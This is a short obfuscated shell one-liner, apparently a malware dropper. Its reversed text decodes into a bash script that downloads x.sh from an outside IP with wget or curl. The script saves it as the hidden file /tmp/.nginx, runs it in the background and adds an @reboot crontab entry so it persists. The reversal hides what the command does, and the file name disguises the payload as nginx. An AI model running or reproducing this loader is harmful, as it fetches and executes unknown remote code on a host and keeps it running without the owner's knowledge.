echo '
- batnorc | "xnign./pmt/ toober@" ohce
& xnign./pmt/
xnign./pmt/ x+ domhc
hs.x/snib/9.001.15.891//:ptth xnign./pmt/ o- lruc || xnign./pmt/ O- hs.x/snib/9.001.15.891//:ptth tegw
pmt/rav/ dc || pmt/ dc
hsab/nib/!#
3v 1384 ksat #' | rev | sh